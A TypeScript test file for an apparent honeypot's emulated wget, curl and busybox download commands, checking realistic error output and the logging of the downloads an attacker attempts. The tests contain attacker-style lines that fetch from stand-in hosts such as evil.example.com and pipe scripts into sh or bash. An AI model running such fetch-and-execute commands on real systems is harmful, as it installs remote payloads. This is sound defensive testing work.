import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { EventFields } from '../../../schema/events.js';
import { DownloadsConfigSchema } from '../../../schema/config/shell.js';
import { ArtifactStore } from '../../artifact-store.js';
import { DownloadService } from '../../downloads/fetcher.js';
import type { CommandContext } from '../command.js';
import type { CommandSession, ShellEventId } from '../command-session.js';
import { FsError, type FsStat, type ShellFs } from '../fs/types.js';
import { debianShell, PERSONA_OS } from '../system/test-shell.js';
import { curl } from './curl.js';
import { wget } from './wget.js';
import { BUSYBOX_DOWNLOAD_APPLETS } from './group-downloads.js';
import { COMMANDS, commandTable } from './index.js';

const dir = mkdtempSync(join(tmpdir(), 'pn-dl-'));
const servers: Server[] = [];
after(async () => {
  for (const s of servers) s.closeAllConnections();
  await Promise.all(servers.map((s) => new Promise((r) => s.close(r))));
  rmSync(dir, { recursive: true, force: true });
});

const SCRIPT = '#!/bin/sh\necho fetched-script-ran\n';

async function serve(): Promise<{ port: number; requests: IncomingMessage[] }> {
  const requests: IncomingMessage[] = [];
  const server = createServer((req, res) => {
    requests.push(req);
    if (req.url === '/missing.sh') {
      res.writeHead(404, 'Not Found', { 'Content-Type': 'text/html' });
      return res.end('<h1>404</h1>');
    }
    res.writeHead(200, { 'Content-Type': 'text/x-sh', 'Content-Length': Buffer.byteLength(SCRIPT) });
    res.end(SCRIPT);
  });
  servers.push(server);
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return { port: (server.address() as AddressInfo).port, requests };
}

type Recorded = { id: ShellEventId; fields: Record<string, unknown> };

let stores = 0;

/** A session with its own artifact store, so "duplicate" means within this test. */
function session(opts: { fetch: boolean; allow?: string[] }): { session: CommandSession; events: Recorded[]; store: string } {
  const events: Recorded[] = [];
  const store = join(dir, `artifacts-${stores++}`);
  const artifacts = new ArtifactStore(store);
  const svc = new DownloadService(DownloadsConfigSchema.parse({ fetch: opts.fetch, allow_cidrs: opts.allow ?? [] }));
  return {
    events,
    store,
    session: {
      emit: <K extends ShellEventId>(id: K, fields: EventFields<K>) => events.push({ id, fields: fields as Record<string, unknown> }),
      saveArtifact: (data) => artifacts.save(data),
      remoteAddress: '203.0.113.50',
      downloads: svc.forSession(),
    },
  };
}

const downloadsOf = (events: Recorded[]) => events.filter((e) => e.id === 'session.file_download' || e.id === 'session.file_download.failed');

// ---------------------------------------------------------------- fetching off (the default)

test('fetching off: wget prints the refused connection as Wget 1.21.3 does, exits 4, records the URL', async () => {
  const { session: s, events } = session({ fetch: false });
  const shell = debianShell({ session: s });
  const literal = await shell.run('wget http://198.51.100.7/x.sh; echo "rc=$?"');
  assert.match(literal.output, /^--\d{4}-\d\d-\d\d \d\d:\d\d:\d\d--  http:\/\/198\.51\.100\.7\/x\.sh\nConnecting to 198\.51\.100\.7:80\.\.\. failed: Connection refused\.\nrc=4\n$/);
  const named = await shell.run('wget evil.example.com/bins/x86');
  const m = /^--[\d :-]+--  http:\/\/evil\.example\.com\/bins\/x86\nResolving evil\.example\.com \(evil\.example\.com\)\.\.\. (\d+\.\d+\.\d+\.\d+)\nConnecting to evil\.example\.com \(evil\.example\.com\)\|(\d+\.\d+\.\d+\.\d+)\|:80\.\.\. failed: Connection refused\.\n$/.exec(named.output);
  assert.ok(m, named.output);
  assert.equal(m[1], m[2]);
  assert.equal((await shell.run('wget -q http://198.51.100.7/y; echo $?')).output, '4\n');
  assert.deepEqual(downloadsOf(events), [
    { id: 'session.file_download.failed', fields: { url: 'http://198.51.100.7/x.sh', reason: 'disabled' } },
    { id: 'session.file_download.failed', fields: { url: 'evil.example.com/bins/x86', reason: 'disabled' } },
    { id: 'session.file_download.failed', fields: { url: 'http://198.51.100.7/y', reason: 'disabled' } },
  ]);
});

test('fetching off: curl prints error 7 (with the meter unless silent), exits 7; -s hides it, -sS and -fsSL show it', async () => {
  const { session: s, events } = session({ fetch: false });
  const shell = debianShell({ session: s, execPty: false }); // `ssh host curl ...`: stdout is a pipe, so curl shows its meter
  const plain = await shell.run('curl http://198.51.100.7/x.sh');
  assert.equal(plain.status, 7);
  assert.match(plain.output, /^  % Total    % Received % Xferd  Average Speed   Time    Time     Time  Current\n {33}Dload  Upload   Total   Spent    Left  Speed\n\r  0     0    0     0    0     0      0      0 --:--:-- --:--:-- --:--:--     0\r  0 .*\ncurl: \(7\) Failed to connect to 198\.51\.100\.7 port 80 after \d+ ms: Couldn't connect to server\n$/);
  // On a terminal curl writes the body there and keeps its meter to itself.
  assert.match((await debianShell({ session: session({ fetch: false }).session }).run('curl http://198.51.100.7/x.sh')).output, /^curl: \(7\) Failed to connect to 198\.51\.100\.7 port 80 after \d+ ms: Couldn't connect to server\n$/);
  assert.equal((await shell.run('curl -s http://198.51.100.7/x.sh')).output, '');
  assert.match((await shell.run('curl -fsSL https://evil.example.com/i.sh')).output, /^curl: \(7\) Failed to connect to evil\.example\.com port 443 after \d+ ms: Couldn't connect to server\n$/);
  assert.match((await shell.run('curl -sS -o x http://198.51.100.7:8080/x')).output, /^curl: \(7\) Failed to connect to 198\.51\.100\.7 port 8080 after/);
  assert.equal(downloadsOf(events).length, 4);
  assert.ok(downloadsOf(events).every((e) => e.fields.reason === 'disabled'));
});

test('argument errors are the real tools\' texts and record nothing', async () => {
  const { session: s, events } = session({ fetch: false });
  const shell = debianShell({ session: s });
  assert.equal((await shell.run('wget')).output, "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n");
  assert.equal((await shell.run('wget -z http://x; echo $?')).output, "wget: invalid option -- 'z'\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n2\n");
  assert.equal((await shell.run('curl; echo $?')).output, "curl: try 'curl --help' or 'curl --manual' for more information\n2\n");
  assert.equal((await shell.run('curl -O http://198.51.100.7/; echo $?')).output, 'curl: Remote file name has no length!\ncurl: (23) Failed writing received data to disk/application\n23\n');
  assert.deepEqual(downloadsOf(events), []);
});

test('fetching off: busybox wget, tftp and ftpget fail as BusyBox does and record their URLs', async () => {
  const { session: s, events } = session({ fetch: false });
  const shell = debianShell({ session: s });
  // A Debian server has no tftp client on its PATH; busybox has the applet.
  assert.equal((await shell.run('tftp -g -r m.mips 198.51.100.7; echo $?')).output, 'bash: line 1: tftp: command not found\n127\n');
  assert.equal((await shell.run('busybox wget http://198.51.100.7/m.arm7; echo $?')).output, "Connecting to 198.51.100.7:80 (198.51.100.7:80)\nwget: can't connect to remote host (198.51.100.7): Connection refused\n1\n");
  const device = debianShell({ session: s, commands: commandTable([...COMMANDS, ...BUSYBOX_DOWNLOAD_APPLETS.values()]) });
  assert.equal((await device.run('tftp -g -r m.mips 198.51.100.7; echo $?')).output, 'tftp: timeout\n1\n');
  assert.equal((await shell.run('busybox tftp -g -l m -r m.mips 198.51.100.7')).output, 'tftp: timeout\n');
  assert.equal((await device.run('ftpget -v -u anonymous -p x 198.51.100.7 m.sh m.sh; echo $?')).output, "ftpget: can't connect to remote host (198.51.100.7): Connection refused\n1\n");
  assert.deepEqual(
    downloadsOf(events).map((e) => e.fields),
    [
      { url: 'http://198.51.100.7/m.arm7', reason: 'disabled' },
      { url: 'tftp://198.51.100.7/m.mips', reason: 'disabled' },
      { url: 'tftp://198.51.100.7/m.mips', reason: 'disabled' },
      { url: 'ftp://198.51.100.7/m.sh', reason: 'disabled' },
    ],
  );
});

// ---------------------------------------------------------------- fetching on

test('fetching on, loopback allowed: wget -O - URL | sh runs the script in the emulated shell; the artifact is stored once', async () => {
  const srv = await serve();
  const { session: s, events, store } = session({ fetch: true, allow: ['127.0.0.1/32'] });
  const shell = debianShell({ session: s });
  const url = `http://127.0.0.1:${srv.port}/x.sh`;
  const first = await shell.run(`wget -q -O - ${url} | sh`);
  assert.equal(first.output, 'fetched-script-ran\n');
  assert.equal(srv.requests[0]?.headers['user-agent'], 'Wget/1.21.3');
  const second = await shell.run(`curl -s ${url} | bash`);
  assert.equal(second.output, 'fetched-script-ran\n');
  assert.equal(srv.requests[1]?.headers['user-agent'], 'curl/7.88.1');
  const got = downloadsOf(events);
  assert.equal(got.length, 2);
  const [a, b] = got.map((e) => e.fields);
  assert.equal(a?.url, url);
  assert.equal(a?.outfile, '-');
  assert.equal(a?.size, Buffer.byteLength(SCRIPT));
  assert.equal(a?.truncated, false);
  assert.equal(a?.duplicate, false);
  assert.equal(b?.shasum, a?.shasum);
  assert.equal(b?.duplicate, true, 'the same content fetched again is a duplicate');
  assert.equal(readFileSync(join(store, String(a?.shasum)), 'utf8'), SCRIPT);
});

test('fetching on: a file wget saves is one session.file_download, not also an upload; a file the attacker writes is an upload', async () => {
  const srv = await serve();
  const { session: s, events } = session({ fetch: true, allow: ['127.0.0.1/32'] });
  const shell = debianShell({ session: s });
  await shell.run(`cd /tmp && wget -q http://127.0.0.1:${srv.port}/x.sh && chmod +x x.sh && echo 'echo hi' > y.sh`);
  assert.deepEqual((await shell.run('cat /tmp/x.sh')).output, SCRIPT);
  assert.deepEqual(
    events.filter((e) => e.id === 'session.file_download' || e.id === 'session.file_upload').map((e) => [e.id, e.fields.outfile ?? e.fields.filename]),
    [
      ['session.file_download', '/tmp/x.sh'],
      ['session.file_upload', '/tmp/y.sh'],
    ],
  );
});

test('fetching on: wget prints its progress and summary, and an HTTP 404 is "ERROR 404: Not Found." with status 8', async () => {
  const srv = await serve();
  const { session: s, events } = session({ fetch: true, allow: ['127.0.0.1/32'] });
  const shell = debianShell({ session: s });
  const ok = await shell.run(`wget -O /tmp/x http://127.0.0.1:${srv.port}/x.sh`);
  assert.equal(ok.status, 0);
  assert.match(
    ok.output,
    new RegExp(`^--[\\d :-]+--  http://127\\.0\\.0\\.1:${srv.port}/x\\.sh\\nConnecting to 127\\.0\\.0\\.1:${srv.port}\\.\\.\\. connected\\.\\nHTTP request sent, awaiting response\\.\\.\\. 200 OK\\nLength: 34 \\[text/x-sh\\]\\nSaving to: ‘/tmp/x’\\n\\n`),
  );
  assert.match(ok.output, /100%.*\n\n\d{4}-\d\d-\d\d \d\d:\d\d:\d\d \([\d.]+ [KMG]?B\/s\) - ‘\/tmp\/x’ saved \[34\/34\]\n\n$/);
  const missing = await shell.run(`wget http://127.0.0.1:${srv.port}/missing.sh`);
  assert.equal(missing.status, 8);
  assert.match(missing.output, /HTTP request sent, awaiting response\.\.\. 404 Not Found\n[\d :-]+ ERROR 404: Not Found\.\n\n$/);
  const fail = await shell.run(`curl -fsS http://127.0.0.1:${srv.port}/missing.sh`);
  assert.equal(fail.status, 22);
  assert.equal(fail.output, 'curl: (22) The requested URL returned error: 404\n');
  assert.deepEqual(
    downloadsOf(events).map((e) => [e.id, e.fields.outfile ?? e.fields.reason]),
    [
      ['session.file_download', '/tmp/x'],
      ['session.file_download.failed', 'http_error'],
      ['session.file_download.failed', 'http_error'],
    ],
  );
});

test('fetching on without allow_cidrs: loopback is refused_address, the server sees no request, the tool shows a refusal', async () => {
  const srv = await serve();
  const { session: s, events } = session({ fetch: true });
  const shell = debianShell({ session: s });
  const w = await shell.run(`wget http://127.0.0.1:${srv.port}/x.sh`);
  assert.equal(w.status, 4);
  assert.match(w.output, new RegExp(`Connecting to 127\\.0\\.0\\.1:${srv.port}\\.\\.\\. failed: Connection refused\\.\\n$`));
  const c = await shell.run(`curl -sS http://localhost:${srv.port}/x.sh`);
  assert.equal(c.status, 7);
  assert.match(c.output, new RegExp(`^curl: \\(7\\) Failed to connect to localhost port ${srv.port} after \\d+ ms: Couldn't connect to server\\n$`));
  assert.equal(srv.requests.length, 0);
  assert.deepEqual(
    downloadsOf(events).map((e) => e.fields.reason),
    ['refused_address', 'refused_address'],
  );
});

/** A tiny in-memory ShellFs with /root and /tmp, enough for the download commands' writes. */
function memoryFs(): ShellFs & { files: Map<string, Buffer> } {
  const files = new Map<string, Buffer>();
  const dirs = new Set(['/', '/root', '/tmp']);
  const st = (kind: 'file' | 'dir', size: number): FsStat => ({ kind, mode: kind === 'dir' ? 0o755 : 0o644, uid: 0, gid: 0, size, mtimeMs: 0, nlink: 1, ino: 1 });
  const no = (): never => {
    throw new Error('not used');
  };
  return {
    files,
    stat: (p) => (dirs.has(p) ? st('dir', 4096) : files.has(p) ? st('file', files.get(p)!.length) : undefined),
    lstat: (p) => (dirs.has(p) ? st('dir', 4096) : files.has(p) ? st('file', files.get(p)!.length) : undefined),
    readdir: no,
    readFile: (p) => files.get(p) ?? no(),
    writeFile: (p, data) => {
      if (!dirs.has(p.slice(0, p.lastIndexOf('/')) || '/')) throw new FsError('ENOENT', p);
      files.set(p, data);
    },
    mkdir: (p) => void dirs.add(p),
    unlink: no,
    rmdir: no,
    rename: no,
    symlink: no,
    chmod: no,
    chown: no,
    utimes: no,
    realpath: (p) => p,
    access: () => undefined,
    usage: () => ({ bytes: 0, limit: 1 << 20 }),
  };
}

function ctxFor(args: string[], s: CommandSession, fs: ShellFs): { ctx: CommandContext; out: string[]; err: string[] } {
  const out: string[] = [];
  const err: string[] = [];
  const ctx: CommandContext = {
    args,
    user: { name: 'root', uid: 0, home: '/root' },
    hostname: 'web-prod-02',
    os: PERSONA_OS,
    cwd: '/root',
    env: new Map(),
    stdin: '',
    stdout: (t) => out.push(t),
    stderr: (t) => err.push(t),
    tty: null,
    fs,
    session: s,
  };
  return { ctx, out, err };
}

test('fetching on: wget and curl -O write into the session file system (wget picks name.1 when taken)', async () => {
  const srv = await serve();
  const { session: s, events } = session({ fetch: true, allow: ['127.0.0.1/32'] });
  const fs = memoryFs();
  const url = `http://127.0.0.1:${srv.port}/y.sh`;
  const w1 = ctxFor([url], s, fs);
  assert.equal(await wget.run(w1.ctx), 0);
  assert.match(w1.err.join(''), /Saving to: ‘y\.sh’\n\n     0K {56}100% /);
  const w2 = ctxFor([url], s, fs);
  assert.equal(await wget.run(w2.ctx), 0);
  assert.match(w2.err.join(''), /‘y\.sh\.1’ saved \[34\/34\]/);
  const c = ctxFor(['-sO', `http://127.0.0.1:${srv.port}/z.sh`], s, fs);
  assert.equal(await curl.run(c.ctx), 0);
  assert.equal(c.err.join('') + c.out.join(''), '');
  assert.equal(fs.files.get('/root/y.sh')?.toString(), SCRIPT);
  assert.equal(fs.files.get('/root/y.sh.1')?.toString(), SCRIPT);
  assert.equal(fs.files.get('/root/z.sh')?.toString(), SCRIPT);
  const bad = ctxFor(['-O', '/nonexistent/x', url], s, fs);
  assert.equal(await wget.run(bad.ctx), 1);
  assert.equal(bad.err.join(''), '/nonexistent/x: No such file or directory\n');
  assert.deepEqual(
    downloadsOf(events).map((e) => [e.fields.outfile, e.fields.duplicate]),
    [
      ['/root/y.sh', false],
      ['/root/y.sh.1', true],
      ['/root/z.sh', true],
    ],
  );
});
